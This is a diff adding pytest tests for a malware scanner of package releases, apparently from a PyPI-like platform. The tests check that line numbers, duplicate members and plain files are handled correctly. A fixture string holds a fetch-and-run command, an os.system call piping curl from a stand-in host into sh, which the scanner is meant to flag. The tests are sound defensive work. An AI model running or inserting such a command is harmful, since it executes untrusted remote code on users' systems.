@@ -1,0 +1,37 @@
+"""One release file: members through the rules that fit them, duplicates once, huge sources in pieces."""
+
+from pypi_platform.lib.scanner.release import AST_MAX_LINES, scan_release_file
+from pypi_platform_tests.dists import build_sdist
+
+SHELL = 'os.system("curl -s https://get.example.net/p | sh")\n'
+
+
+def _rules_at(result) -> list[tuple[str, str, int | None]]:
+    return sorted((f.rule, f.path, f.line) for f in result.findings)
+
+
+def test_a_million_line_source_is_parsed_in_pieces_and_keeps_its_line_numbers():
+    filler = "".join(f"v{i} = {i}\n" for i in range(2 * AST_MAX_LINES))
+    source = "import os\n" + SHELL + filler + SHELL
+    last = source.count("\n")
+    filename, data = build_sdist("big", "1.0", modules={"big/table.py": source})
+    result = scan_release_file(filename, data, "sdist")
+    found = _rules_at(result)
+    assert ("process.shell-download", "big-1.0/big/table.py", 2) in found
+    assert ("process.shell-download", "big-1.0/big/table.py", last) in found  # `os` known in the last piece
+    assert ("parse.node-limit", "big-1.0/big/table.py", None) in found
+    assert result.coverage["python_files_in_pieces"] == 1
+
+
+def test_identical_members_are_analysed_once_and_binary_members_are_skipped():
+    modules = {"a/one.py": "import os\n" + SHELL, "a/two.py": "import os\n" + SHELL, "a/blob.dat": "\0\1\2"}
+    filename, data = build_sdist("dup", "1.0", modules=modules)
+    result = scan_release_file(filename, data, "sdist")
+    assert {path for _, path, _ in _rules_at(result)} == {"dup-1.0/a/one.py"}
+    assert result.coverage["skipped_duplicate"] == 1
+    assert result.coverage["skipped_binary"] == 1
+
+
+def test_a_file_that_is_not_an_archive_is_scanned_as_itself():
+    result = scan_release_file("tool.py", ("import os\n" + SHELL).encode(), "sdist")
+    assert ("process.shell-download", "tool.py", 2) in _rules_at(result)
